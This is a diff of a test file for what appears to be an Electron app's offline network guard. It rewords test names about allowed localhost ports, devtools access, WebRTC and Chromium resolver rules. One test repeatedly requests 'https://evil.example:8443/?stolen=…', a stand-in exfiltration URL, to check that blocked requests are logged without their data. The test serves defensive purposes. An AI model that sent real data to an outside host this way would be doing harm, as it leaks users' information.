@@ -25,7 +25,7 @@ test.each([
   'data:image/png;base64,AAAA',
   'ws://127.0.0.1:40123/ws/voice?user_id=me',
   'ws://127.0.0.1:40124/ws/voice?user_id=me&session_id=a',
-])('our own %s may be asked for', async (url) => {
+])('our own %s is allowed', async (url) => {
   expect(await guarded().requests(url)).toBe(true);
   expect(log).not.toHaveBeenCalled();
 });
@@ -62,12 +62,12 @@ test.each([
   expect(await guarded().requests(url)).toBe(false);
 });
 
-test('only a window that may have developer tools may load their page', async () => {
+test('the page of the developer tools is allowed only if windows may have them', async () => {
   expect(await guarded(true).requests('devtools://devtools/bundled/inspector.html')).toBe(true);
   expect(await guarded(true).requests('https://chrome-devtools-frontend.appspot.com/')).toBe(false);
 });
 
-test('H36 no web address but our two ports of 127.0.0.1 gets through', () => {
+test('H36 only our two ports of 127.0.0.1 are allowed', () => {
   const port = fc.oneof(fc.constantFrom(40_123, 40_124), fc.integer({ min: 1, max: 65_535 }));
   const host = fc.oneof(fc.constantFrom('127.0.0.1', 'localhost', '[::1]', '0.0.0.0'), fc.domain(), fc.ipV4());
   fc.assert(
@@ -84,7 +84,7 @@ test('H36 no web address but our two ports of 127.0.0.1 gets through', () => {
   );
 });
 
-test('a blocked request is told without what it carried, and a page that asks on does not fill the log', async () => {
+test('a blocked request is logged without its data, and repeated requests do not fill the log', async () => {
   const network = guarded();
   for (let i = 0; i < 1_000; i++) await network.requests(`https://evil.example:8443/?stolen=${i}`, 'image');
   expect(log).toHaveBeenCalledTimes(20);
@@ -93,12 +93,12 @@ test('a blocked request is told without what it carried, and a page that asks on
   }
 });
 
-test('nothing is downloaded for a spell checker, and no window has UDP for WebRTC', () => {
+test('no spell checker dictionary is downloaded, and WebRTC cannot use UDP', () => {
   expect(guarded().spellChecker).toBe(false);
   expect(openFakeWindow().webContents.webRtcPolicy).toBe('disable_non_proxied_udp');
 });
 
-test('Chromium resolves no name but 127.0.0.1 and looks for no proxy', () => {
+test('Chromium resolves only 127.0.0.1 and does not look for a proxy', () => {
   setupOffline();
   expect([...app.switches]).toEqual([
     ['host-resolver-rules', 'MAP * ~NOTFOUND, EXCLUDE 127.0.0.1'],
@@ -106,7 +106,7 @@ test('Chromium resolves no name but 127.0.0.1 and looks for no proxy', () => {
   ]);
 });
 
-test('a build that may look for updates resolves the hosts of releases by their exact names, and no page may ask them', async () => {
+test('a build with updates resolves exactly the hosts of releases, and no page may connect to them', async () => {
   setupOffline({ updates: true });
   expect(app.switches.get('host-resolver-rules')).toBe(
     'MAP * ~NOTFOUND, EXCLUDE 127.0.0.1, EXCLUDE github.com, EXCLUDE release-assets.githubusercontent.com, EXCLUDE objects.githubusercontent.com',
